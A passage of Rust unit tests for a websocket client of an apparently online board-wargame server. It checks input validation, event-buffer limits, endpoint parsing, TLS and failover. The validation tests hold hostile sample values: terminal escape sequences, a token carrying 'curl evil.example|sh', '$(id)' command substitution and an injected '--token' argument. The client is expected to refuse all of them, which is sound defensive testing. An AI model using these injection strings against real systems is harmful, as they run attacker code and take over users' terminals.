        let Err(e) = game_of(Position::from(Game::new(hostile))) else {
            panic!("a unit id with an escape was read");
        };
        let text = e.to_string();
        assert!(text.contains("g\\u{1b}[2J"), "{text}");
        assert!(crate::plain(&text), "{text:?}");
    }

    /// `asl new` prints and saves what `created` says: the game id, tokens and public address
    /// go into commands to paste and links, the sides' names beside them. A server putting a
    /// terminal escape in any of them, or a shell's word in a command, is refused, the words
    /// shown escaped.
    #[test]
    fn a_created_reply_with_control_characters_is_refused() {
        let fair = NewGame {
            game: "g1".into(),
            sides: [
                SideSpec {
                    id: "german".into(),
                    name: "German".into(),
                    nationality: None,
                },
                SideSpec {
                    id: "russian".into(),
                    name: "Russian".into(),
                    nationality: None,
                },
            ],
            tokens: Tokens {
                side_a: "ta".into(),
                side_b: "tb".into(),
                spectator: "ts".into(),
            },
            public_url: Some("wss://asl.example.org".into()),
        };
        assert_eq!(checked_new_game(fair.clone()).unwrap(), fair);
        let hostile = "x\u{1b}]0;owned\u{7}";
        let mut variants = vec![];
        let mut v = fair.clone();
        v.game = hostile.into();
        variants.push(v);
        let mut v = fair.clone();
        v.tokens.spectator = hostile.into();
        variants.push(v);
        let mut v = fair.clone();
        v.sides[1].name = hostile.into();
        variants.push(v);
        let mut v = fair.clone();
        v.public_url = Some(format!("wss://{hostile}"));
        variants.push(v);
        // A command to paste that runs another.
        let mut v = fair.clone();
        v.tokens.side_b = "tb;curl evil.example|sh".into();
        variants.push(v);
        let mut v = fair.clone();
        v.public_url = Some("ws://h:1 $(id)".into());
        variants.push(v);
        let mut v = fair.clone();
        v.sides[0].id = "german --token x".into();
        variants.push(v);
        for v in variants {
            let Err(e) = checked_new_game(v.clone()) else {
                panic!("{v:?} was taken");
            };
            let text = e.to_string();
            assert!(text.contains("is not"), "{text}");
            assert!(crate::plain(&text), "{text:?}");
        }
    }

    /// A hostile server answering a request with an endless stream of events first: the
    /// client held every one until its memory ran out (within the 30 s the reply may take);
    /// now it stops at `BUFFERED_EVENTS_MAX` and says why.
    #[tokio::test]
    async fn events_without_end_before_a_reply_are_refused() {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let server = tokio::spawn(async move {
            let (stream, _) = listener.accept().await.unwrap();
            let mut socket = tokio_tungstenite::accept_async(stream).await.unwrap();
            let _ = socket.next().await;
            for seq in 1.. {
                let event = ServerMessage::Event(crate::follower::sequenced(
                    seq,
                    Event::GameEnded(GameEnded { turns_played: 1 }),
                ));
                if socket
                    .send(Message::Text(wire::to_json(&event).into()))
                    .await
                    .is_err()
                {
                    return seq;
                }
            }
            unreachable!()
        });
        let mut connection = Connection::connect(&format!("ws://127.0.0.1:{port}"))
            .await
            .unwrap();
        let e = connection.get_state().await.unwrap_err();
        assert!(e.to_string().contains("BUFFERED_EVENTS_MAX"), "{e}");
        assert_eq!(connection.buffered.len(), BUFFERED_EVENTS_MAX);
        drop(connection);
        let sent = server.await.unwrap();
        assert!(sent as usize > BUFFERED_EVENTS_MAX, "{sent}");
    }

    #[test]
    fn endpoint_adds_the_protocol_path_once() {
        assert_eq!(endpoint("ws://127.0.0.1:7878"), "ws://127.0.0.1:7878/v1");
        assert_eq!(endpoint("ws://127.0.0.1:7878/"), "ws://127.0.0.1:7878/v1");
        assert_eq!(endpoint("ws://h:1/v1"), "ws://h:1/v1");
        assert_eq!(
            endpoint("wss://asl.example.org"),
            "wss://asl.example.org/v1"
        );
    }

    #[test]
    fn a_bare_host_and_port_is_plain_websocket() {
        assert_eq!(endpoint("127.0.0.1:7878"), "ws://127.0.0.1:7878/v1");
        assert_eq!(endpoint(" example:9000/ "), "ws://example:9000/v1");
    }

    /// `wss://` opens with a TLS handshake (a ClientHello record: 0x16, then version 3.x), so
    /// the client reaches a server behind a TLS proxy.
    #[tokio::test]
    async fn wss_speaks_tls() {
        use tokio::io::AsyncReadExt;
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = listener.local_addr().unwrap().port();
        let client =
            tokio::spawn(
                async move { Connection::connect(&format!("wss://127.0.0.1:{port}")).await },
            );
        let accepted = tokio::time::timeout(REPLY_WAIT_MAX, listener.accept()).await;
        let (mut socket, _) = accepted.expect("the client connects").unwrap();
        let mut hello = [0u8; 3];
        socket.read_exact(&mut hello).await.unwrap();
        assert_eq!(hello[..2], [0x16, 0x03], "a TLS handshake record");
        drop(socket);
        let Err(e) = client.await.unwrap() else {
            panic!("no TLS server here");
        };
        assert!(!e.to_string().contains("not compiled in"), "{e}");
    }

    #[tokio::test]
    async fn a_refused_connection_says_to_start_the_server() {
        // Bind and drop a listener: its port is then, almost surely, one nothing listens on.
        let port = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let Err(e) = Connection::connect(&format!("127.0.0.1:{port}")).await else {
            panic!("nothing listens on port {port}");
        };
        let text = e.to_string();
        assert!(
            text.contains(&format!("ws://127.0.0.1:{port}/v1")),
            "{text}"
        );
        assert!(text.contains("start the server"), "{text}");
    }

    /// Of several addresses, a dead one is passed over for the next that answers, and that one
    /// is tried first next time.
    #[tokio::test]
    async fn several_servers_fail_over_to_one_that_answers() {
        let dead = std::net::TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let live = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let port = live.local_addr().unwrap().port();
        let accepting = tokio::spawn(async move {
            for _ in 0..2 {
                let (stream, _) = live.accept().await.unwrap();
                let _ = tokio_tungstenite::accept_async(stream).await.unwrap();
            }
        });
        let servers = format!("ws://127.0.0.1:{dead},ws://127.0.0.1:{port}");
        Connection::connect(&servers).await.unwrap();
        assert_eq!(LAST_ANSWERED.load(std::sync::atomic::Ordering::Relaxed), 1);
        Connection::connect(&servers).await.unwrap();
        accepting.await.unwrap();
        let Err(e) = Connection::connect(&format!("ws://127.0.0.1:{dead},127.0.0.1:{dead}")).await
        else {
            panic!("nothing listens on port {dead}");
        };
        assert!(e.is_transient(), "{e}");
    }

    #[test]
    fn only_link_trouble_is_worth_a_retry() {
        assert!(ConnectionError::Closed.is_transient());
        assert!(ConnectionError::Server {
            code: ErrorCode::ShuttingDown,
            message: String::new()
        }
        .is_transient());
        assert!(
            ConnectionError::Server {
                code: ErrorCode::Moved,
                message: String::new()
            }
            .is_transient(),
            "another node owns the game now: reconnect"
        );
        assert!(!ConnectionError::Server {
            code: ErrorCode::BadToken,
            message: String::new()
        }
        .is_transient());
        assert!(!ConnectionError::Malformed(String::new()).is_transient());
    }

    #[test]
    fn server_errors_read_as_sentences_with_the_wire_code() {
        let e = ConnectionError::Server {
            code: ErrorCode::BadToken,
            message: "that token is not one of this game's".into(),
        };
        assert_eq!(
            e.to_string(),
            "the server refused: that token is not one of this game's (bad_token)"
        );
    }

    #[test]
    fn every_versioned_message_moves_the_version() {
        let event = ServerMessage::Event(crate::follower::sequenced(
            9,
            protocol::Event::GameEnded(GameEnded { turns_played: 1 }),
        ));
        assert_eq!(version_of(&event), Some(9));
        assert_eq!(version_of(&ServerMessage::Pong { nonce: 1 }), None);
    }
}
